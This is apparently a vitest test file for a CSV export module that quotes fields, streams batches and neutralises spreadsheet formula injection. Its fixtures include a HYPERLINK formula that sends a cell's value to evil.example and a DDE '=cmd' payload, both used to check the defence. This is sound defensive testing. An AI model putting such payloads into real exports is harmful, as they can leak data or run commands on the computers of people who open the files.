import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { TAGS, STATUSES } from "@/lib/annotations/tags";
import { CSV_COLUMNS, rowToCells, type TCsvCell, type TExportRow } from "./columns";
import { BOM, csvHeader, csvRows, csvStream } from "./csv";
import { exportRow } from "@/test/support/export-rows";

const QUOTE = CSV_COLUMNS.indexOf("quote");
const NOTE = CSV_COLUMNS.indexOf("note");

/** Parses CSV text the way a consumer would; the trailing CRLF would otherwise yield one empty record. */
function parse(text: string): string[][] {
  const result = Papa.parse<string[]>(text, { delimiter: ",", newline: "\r\n", skipEmptyLines: true });
  expect(result.errors).toEqual([]);
  return result.data;
}

/** What every field must read back as in raw mode. */
function expectedCells(row: TExportRow): string[] {
  return rowToCells(row).map(String);
}

describe("csvHeader", () => {
  it("is the contract's columns in order, CRLF-terminated", () => {
    expect(csvHeader()).toBe(
      "annotation_id,article_id,article_title,outlet,annotator_email,annotator_name,tag,start,end,quote,note," +
        "status,agree_count,disagree_count,created_at,updated_at\r\n",
    );
  });
});

describe("csvRows", () => {
  it("writes plain fields unquoted, null outlet as an empty cell, CRLF after every row including the last", () => {
    const text = csvRows([exportRow(), exportRow({ annotationId: "ann_2", outlet: null })], { raw: false });
    expect(text).toBe(
      "ann_1,art_1,City hall budget,The Daily,alice@example.org,Alice,opinion,10,15,hello,,pending,0,0," +
        "2026-11-25T10:00:00.000Z,2026-11-25T11:30:00.000Z\r\n" +
        "ann_2,art_1,City hall budget,,alice@example.org,Alice,opinion,10,15,hello,,pending,0,0," +
        "2026-11-25T10:00:00.000Z,2026-11-25T11:30:00.000Z\r\n",
    );
  });

  it("writes nothing for an empty batch", () => {
    expect(csvRows([], { raw: false })).toBe("");
  });

  it.each([
    ["a comma", "a, b", '"a, b"'],
    ["a double quote", 'say "hi"', '"say ""hi"""'],
    ["only a double quote", '"', '""""'],
    ["a CR", "a\rb", '"a\rb"'],
    ["an LF", "a\nb", '"a\nb"'],
    ["a CRLF", "a\r\nb", '"a\r\nb"'],
  ])("quotes a field with %s and doubles its quotes", (_name, quote, written) => {
    const text = csvRows([exportRow({ quote, note: "n" })], { raw: true });
    expect(text).toContain(`,15,${written},n,pending,`);
    expect(parse(text)[0]?.[QUOTE]).toBe(quote);
  });

  it("keeps emoji, curly quotes and other non-ASCII text exact and unquoted", () => {
    const quote = "“Curly” ‘quotes’ 😀👩‍👩‍👧 — naïve 日本語";
    const text = csvRows([exportRow({ quote })], { raw: false });
    expect(text).toContain(`,${quote},`);
    expect(parse(text)[0]?.[QUOTE]).toBe(quote);
  });

  describe("spreadsheet neutralising (default)", () => {
    it.each(["=", "+", "-", "@", "\t", "\r"])("prefixes ' to a text field starting with %j", (trigger) => {
      const quote = `${trigger}1+1`;
      const [cells] = parse(csvRows([exportRow({ quote })], { raw: false }));
      expect(cells?.[QUOTE]).toBe(`'${quote}`);
    });

    it("neutralises a note starting with =HYPERLINK(, even over several lines", () => {
      const note = '=HYPERLINK("https://evil.example/?q="&A1,"Click me")\nline two';
      const [cells] = parse(csvRows([exportRow({ note })], { raw: false }));
      expect(cells?.[NOTE]).toBe(`'${note}`);
    });

    it("neutralises every text column, not only quote and note", () => {
      const evil = "=cmd|'/c calc'!A1";
      const row = exportRow({
        annotationId: evil,
        articleId: evil,
        articleTitle: evil,
        outlet: evil,
        annotatorEmail: evil,
        annotatorName: evil,
        quote: evil,
        note: evil,
      });
      const [cells] = parse(csvRows([row], { raw: false }));
      for (const column of [
        "annotation_id",
        "article_id",
        "article_title",
        "outlet",
        "annotator_email",
        "annotator_name",
        "quote",
        "note",
      ] as const) {
        expect(cells?.[CSV_COLUMNS.indexOf(column)]).toBe(`'${evil}`);
      }
    });

    it("never prefixes numbers", () => {
      const text = csvRows([exportRow({ start: 0, end: 1, agreeCount: 3, disagreeCount: 0 })], { raw: false });
      expect(text).toContain(",0,1,hello,,pending,3,0,");
      expect(text).not.toContain("'");
    });

    it("leaves text that only contains a trigger later on alone", () => {
      const [cells] = parse(csvRows([exportRow({ quote: "a=b-c", note: " x=y" })], { raw: false }));
      expect(cells?.[QUOTE]).toBe("a=b-c");
      expect(cells?.[NOTE]).toBe(" x=y");
    });

    it("neutralises a trigger behind leading whitespace or a BOM, and a leading line feed", () => {
      const [cells] = parse(csvRows([exportRow({ quote: " =x", note: "\uFEFF＝1+1", outlet: "\n@x" })], { raw: false }));
      expect(cells?.[QUOTE]).toBe("' =x");
      expect(cells?.[NOTE]).toBe("'\uFEFF＝1+1");
      expect(cells?.[CSV_COLUMNS.indexOf("outlet")]).toBe("'\n@x");
    });
  });

  describe("raw mode", () => {
    it("writes every field exactly as stored", () => {
      const row = exportRow({ quote: "=SUM(A1:A9)", note: "-5", articleTitle: "@home", outlet: "+1\tx" });
      const [cells] = parse(csvRows([row], { raw: true }));
      expect(cells).toEqual(expectedCells(row));
    });
  });

  it("parses back with Papa.parse to exactly the input, field by field (raw mode, generated rows)", () => {
    // Weighted towards the characters CSV and spreadsheets care about, plus arbitrary Unicode.
    const tricky = fc.constantFrom(",", '"', "\r", "\n", "\r\n", " ", "=", "+", "-", "@", "\t", "'", "\uFEFF", "😀", "é", "a");
    const text = fc.oneof(fc.string({ unit: "binary" }), fc.string({ unit: tricky }));
    const nonNegative = fc.integer({ min: 0, max: 2_000_000 });
    const date = fc.date({ min: new Date("1970-01-01T00:00:00Z"), max: new Date("2100-01-01T00:00:00Z"), noInvalidDate: true }).map((d) => d.toISOString());
    const row = fc.record({
      annotationId: text,
      articleId: text,
      articleTitle: text,
      outlet: fc.option(text),
      annotatorEmail: text,
      annotatorName: text,
      tag: fc.constantFrom(...TAGS),
      start: nonNegative,
      end: nonNegative,
      quote: text,
      note: text,
      status: fc.constantFrom(...STATUSES),
      agreeCount: nonNegative,
      disagreeCount: nonNegative,
      createdAt: date,
      updatedAt: date,
    });
    fc.assert(
      fc.property(fc.array(row, { minLength: 1, maxLength: 5 }), (rows) => {
        const parsed = parse(csvHeader() + csvRows(rows, { raw: true }));
        expect(parsed).toEqual([[...CSV_COLUMNS], ...rows.map(expectedCells)]);
      }),
      { numRuns: 300 },
    );
  });
});

async function readAll(stream: ReadableStream<Uint8Array>): Promise<Uint8Array> {
  return new Uint8Array(await new Response(stream).arrayBuffer());
}

/** Batches of cell rows, as exportCellBatches yields them from the database. */
async function* batchesOf(batches: TExportRow[][], log: string[] = []): AsyncGenerator<TCsvCell[][]> {
  try {
    for (const [index, batch] of batches.entries()) {
      log.push(`asked for batch ${index}`);
      yield batch.map(rowToCells);
    }
    log.push("source exhausted");
  } finally {
    log.push("source closed");
  }
}

describe("csvStream", () => {
  const batches = [
    [exportRow({ annotationId: "a1" }), exportRow({ annotationId: "a2", quote: "x,y" })],
    [exportRow({ annotationId: "a3", note: "=1" })],
    [exportRow({ annotationId: "a4" })],
  ];

  it("streams the header then every batch, byte for byte what csvHeader and csvRows give", async () => {
    const bytes = await readAll(csvStream(batchesOf(batches), { raw: false, bom: false }));
    expect(new TextDecoder().decode(bytes)).toBe(
      csvHeader() + batches.map((batch) => csvRows(batch, { raw: false })).join(""),
    );
  });

  it("honours raw mode", async () => {
    const bytes = await readAll(csvStream(batchesOf(batches), { raw: true, bom: false }));
    expect(new TextDecoder().decode(bytes)).toContain(",=1,");
  });

  it("starts with a UTF-8 byte order mark only when asked", async () => {
    const withBom = await readAll(csvStream(batchesOf([]), { raw: false, bom: true }));
    expect([...withBom.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder("utf-8", { ignoreBOM: true }).decode(withBom)).toBe(BOM + csvHeader());

    const withoutBom = await readAll(csvStream(batchesOf([]), { raw: false, bom: false }));
    expect(withoutBom[0]).toBe("a".charCodeAt(0));
  });

  it("reads at most one batch ahead of the consumer, one chunk per batch", async () => {
    const log: string[] = [];
    const reader = csvStream(batchesOf(batches, log), { raw: false, bom: false }).getReader();
    const settle = () => new Promise((resolve) => setTimeout(resolve, 20));
    const decode = (chunk: Uint8Array | undefined) => new TextDecoder().decode(chunk);
    const asked = () => log.filter((l) => l.startsWith("asked")).length;

    await settle();
    expect(asked()).toBeLessThanOrEqual(1);
    expect(decode((await reader.read()).value)).toBe(csvHeader());
    for (const [i, batch] of batches.entries()) {
      await settle();
      // The consumer has taken i batches: the source has been asked for at most one more.
      expect(asked()).toBeLessThanOrEqual(i + 1);
      expect(decode((await reader.read()).value)).toBe(csvRows(batch, { raw: false }));
    }
    expect(await reader.read()).toEqual({ done: true, value: undefined });
    expect(log).toEqual([
      "asked for batch 0",
      "asked for batch 1",
      "asked for batch 2",
      "source exhausted",
      "source closed",
    ]);
  });

  it("skips empty batches without ending the stream", async () => {
    const bytes = await readAll(csvStream(batchesOf([[], batches[1] ?? [], []]), { raw: false, bom: false }));
    expect(new TextDecoder().decode(bytes)).toBe(csvHeader() + csvRows(batches[1] ?? [], { raw: false }));
  });

  it("closes the source when the consumer cancels", async () => {
    const log: string[] = [];
    const reader = csvStream(batchesOf(batches, log), { raw: false, bom: false }).getReader();
    await reader.read();
    await reader.read();
    await reader.cancel("client went away");
    // The batch read ahead is dropped with the rest; the source is closed, never exhausted.
    expect(log.at(-1)).toBe("source closed");
    expect(log).not.toContain("source exhausted");
    expect(log.filter((l) => l.startsWith("asked")).length).toBeLessThanOrEqual(2);
  });

  it("errors the stream when the source fails", async () => {
    async function* failing(): AsyncGenerator<TCsvCell[][]> {
      yield (batches[0] ?? []).map(rowToCells);
      throw new Error("database is locked");
    }
    const reader = csvStream(failing(), { raw: false, bom: false }).getReader();
    await reader.read();
    await reader.read();
    await expect(reader.read()).rejects.toThrow("database is locked");
  });

  it("closes the source when a row cannot be written", async () => {
    const log: string[] = [];
    const unwritable = { toString: () => { throw new RangeError("unreadable cell"); } } as unknown as string;
    const reader = csvStream(batchesOf([[exportRow({ quote: unwritable })]], log), { raw: false, bom: false }).getReader();
    await reader.read();
    await expect(reader.read()).rejects.toThrow(RangeError);
    expect(log).toEqual(["asked for batch 0", "source closed"]);
  });
});
